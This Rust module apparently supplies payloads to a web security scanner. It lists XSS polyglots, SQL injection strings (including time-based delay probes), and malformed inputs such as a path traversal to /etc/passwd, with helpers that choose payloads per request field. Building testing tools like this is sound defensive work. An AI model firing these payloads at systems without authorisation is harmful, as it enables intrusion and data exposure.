use std::io;
use std::path::Path;

use log::{debug, warn};

use crate::core::FieldLocation;
use crate::utils::read_lines;

pub const POLYGLOT_XSS: &[&str] = &[
    r#"jaVasCript:/*-/*`/*\`/*'/*"/**/(/* */oNcLiCk=alert() )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\x3csVg/<sVg/oNloAd=alert()//>\x3e"#,
    r#"<svg/onload=alert()//>"#,
    r#"<img src=x onerror=alert()>"#,
    r#"</script><script>alert()</script>"#,
    r#"" onmouseover="alert()"#,
    r#"`${alert()}`"#,
    r#"<script>alert()</script>"#,
    r#"javascript:alert()//"#,
    r#"'-alert()-'"#,
    r#"<a id=x name=y href=1></a><a id=x name=z href=javascript:alert()></a>"#,
];

pub const POLYGLOT_SQLI: &[&str] = &[
    r#"' OR '1'='1'--"#,
    r#"' OR SLEEP(5)--"#,
    r#"'; SELECT pg_sleep(5)--"#,
    r#"' UNION SELECT NULL,NULL,NULL--"#,
    r#"'; WAITFOR DELAY '0:0:5'--"#,
    r#"' AND '1'='1"#,
    r#"%27%20OR%20%271%27%3D%271"#,
    r#"'/**/OR/**/1=1--"#,
    r#"' AND EXTRACTVALUE(1,CONCAT(0x7e,(SELECT version())))--"#,
    r#"1'/*!50000UNION*//*!50000SELECT*/1,2,3--"#,
];

/// Values that tend to break parsers and type coercion rather than target
/// one specific backend.
pub const STRUCTURE_BREAKERS: &[&str] = &[
    r#"""#,
    r#"","#,
    r#"}"#,
    r#"]"#,
    "\x00",
    r#"\"#,
    r#"\u0000"#,
    r#"},"key":""#,
    "-1",
    "99999999999999999999999",
    "1e309",
    "NaN",
    "%s%s%s%n",
    "../../../../etc/passwd",
    "\n\r",
];

/// Markers of payloads that delay the backend instead of breaking it.
const DELAY_MARKERS: &[&str] = &["sleep", "waitfor", "pg_sleep", "benchmark"];

/// Reads a payload corpus: one payload per line, blank lines and `#`
/// comments skipped.
pub fn load_list_from_file(path: impl AsRef<Path>) -> io::Result<Vec<String>> {
    let payloads: Vec<String> = read_lines(path.as_ref())?
        .into_iter()
        .filter(|line| !line.starts_with('#'))
        .collect();
    if payloads.is_empty() {
        warn!("No payloads loaded from {}", path.as_ref().display());
    } else {
        debug!("Loaded {} payloads from {}", payloads.len(), path.as_ref().display());
    }
    Ok(payloads)
}

/// Payload source for the test catalog: the built-in corpora, optionally
/// overridden by a user corpus.
#[derive(Debug, Clone, Default)]
pub struct PayloadLoader {
    pub custom: Vec<String>,
}

impl PayloadLoader {
    pub fn new() -> Self {
        Self::default()
    }

    pub fn from_file(path: impl AsRef<Path>) -> io::Result<Self> {
        Ok(Self {
            custom: load_list_from_file(path)?,
        })
    }

    /// The user corpus when one was given, otherwise `builtin`.
    pub fn or_builtin(&self, builtin: &[&str]) -> Vec<String> {
        if self.custom.is_empty() {
            builtin.iter().map(|s| s.to_string()).collect()
        } else {
            self.custom.clone()
        }
    }

    pub fn sqli(&self) -> Vec<String> {
        self.or_builtin(POLYGLOT_SQLI)
    }

    pub fn xss(&self) -> Vec<String> {
        self.or_builtin(POLYGLOT_XSS)
    }

    /// Delay-inducing payloads only.
    pub fn time_based(&self) -> Vec<String> {
        self.sqli()
            .into_iter()
            .filter(|p| {
                let lower = p.to_lowercase();
                DELAY_MARKERS.iter().any(|m| lower.contains(m))
            })
            .collect()
    }

    /// Mix suited to the given field: structure breakers first for bodies,
    /// injection polyglots for everything that ends up in a url or header.
    pub fn payloads_for_location(&self, location: FieldLocation) -> Vec<String> {
        if !self.custom.is_empty() {
            return self.custom.clone();
        }
        let mut payloads: Vec<String> = Vec::new();
        match location {
            FieldLocation::Body => {
                payloads.extend(STRUCTURE_BREAKERS.iter().map(|s| s.to_string()));
                payloads.extend(POLYGLOT_SQLI.iter().map(|s| s.to_string()));
            }
            FieldLocation::Param | FieldLocation::Url => {
                payloads.extend(POLYGLOT_XSS.iter().map(|s| s.to_string()));
                payloads.extend(POLYGLOT_SQLI.iter().map(|s| s.to_string()));
            }
            FieldLocation::Header => {
                payloads.extend(POLYGLOT_SQLI.iter().map(|s| s.to_string()));
                payloads.extend(STRUCTURE_BREAKERS.iter().map(|s| s.to_string()));
            }
        }
        payloads
    }
}
